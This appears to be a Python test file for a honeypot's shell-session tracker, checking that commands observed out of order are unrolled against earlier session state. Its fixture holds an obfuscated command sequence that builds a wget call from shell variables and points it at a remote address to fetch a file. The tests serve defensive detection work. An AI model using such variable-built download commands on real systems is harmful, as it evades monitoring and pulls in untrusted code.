"""What a session's shell knows is a function of its earlier commands as they are stored, whatever came when."""

from __future__ import annotations

from typing import TYPE_CHECKING

from decnet.shell import unroll
from decnet.ttp.sessions import ShellSessions
from tests.events import NOON, SECOND, a_command

if TYPE_CHECKING:
    from decnet.models.event import CommandPayload, Event

LINES = ("a=wget", "a=$a$a", "$a http://203.0.113.7/x")
EVENTS = [a_command(line, at=NOON + number * SECOND) for number, line in enumerate(LINES)]


def text_of(event: Event) -> str:
    payload: CommandPayload = event.payload  # type: ignore[assignment]
    return payload.command_text


def stored_before(event: Event) -> list[str]:
    return [text_of(one) for one in EVENTS if one.observed_at < event.observed_at]


def program_of(sessions: ShellSessions, event: Event) -> str:
    """What the shell would run first, and the session goes on behind it."""
    unrolled = unroll(text_of(event), sessions.before(event))
    sessions.after(event, unrolled.state)
    return unrolled.commands[0].program if unrolled.commands else ""


def test_a_command_that_comes_again_meets_the_state_that_it_met_first() -> None:
    sessions = ShellSessions(stored_before)
    assert [program_of(sessions, event) for event in EVENTS][-1] == "wgetwget"
    program_of(sessions, EVENTS[1])
    assert program_of(sessions, EVENTS[2]) == "wgetwget"


def test_what_others_handled_meanwhile_is_known_after_forgetting() -> None:
    sessions = ShellSessions(stored_before)
    program_of(sessions, EVENTS[0])
    sessions.forget()
    assert program_of(sessions, EVENTS[2]) == "wgetwget"


def test_a_session_that_is_met_in_the_middle_is_read_first() -> None:
    assert program_of(ShellSessions(stored_before), EVENTS[2]) == "wgetwget"
